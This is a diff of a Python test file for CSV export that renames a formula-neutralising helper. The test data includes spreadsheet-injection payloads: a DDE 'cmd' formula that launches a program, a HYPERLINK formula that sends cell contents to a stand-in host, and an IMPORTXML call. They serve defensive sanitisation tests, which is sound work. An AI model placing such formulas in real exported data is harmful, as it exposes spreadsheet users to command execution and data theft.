@@ -20,7 +20,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from exporting.files import ExportError
-from exporting.table import VERSION, Format, Table, neutral
+from exporting.table import VERSION, Format, Table, neutralise
 from tests.support.paths import PROJECT
 
 COMMANDS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://a.example?"&A1,"x")', "SUM(A1:A9)", "IMPORTXML(A1,B1)"]
@@ -101,9 +101,9 @@ def tables(draw: st.DrawFn, texts: st.SearchStrategy[str] = plain_text) -> pa.Ta
 @given(tables())
 def test_csv_is_the_same_table_again(rows: pa.Table) -> None:
     """pandas reads every number, to the last digit, in its own type, and every text back without being told how."""
-    content = Table(rows.set_column(3, "text", [[neutral(text) for text in rows["text"].to_pylist()]]), {}).csv()
+    content = Table(rows.set_column(3, "text", [[neutralise(text) for text in rows["text"].to_pylist()]]), {}).csv()
     expected = rows.to_pandas()
-    expected["text"] = [neutral(text) for text in expected["text"]]
+    expected["text"] = [neutralise(text) for text in expected["text"]]
     pd.testing.assert_frame_equal(pd.read_csv(io.BytesIO(content)), expected, check_exact=True)
 
 
@@ -161,7 +161,7 @@ def test_a_formula_is_neutralised(payload: str, delimiter: str) -> None:
 @pytest.mark.parametrize("text", HARMLESS)
 def test_a_harmless_text_is_left_alone(text: str) -> None:
     """Signs within a text are no formula."""
-    assert neutral(text) == text
+    assert neutralise(text) == text
 
 
 def test_only_text_in_csv_is_neutralised() -> None:
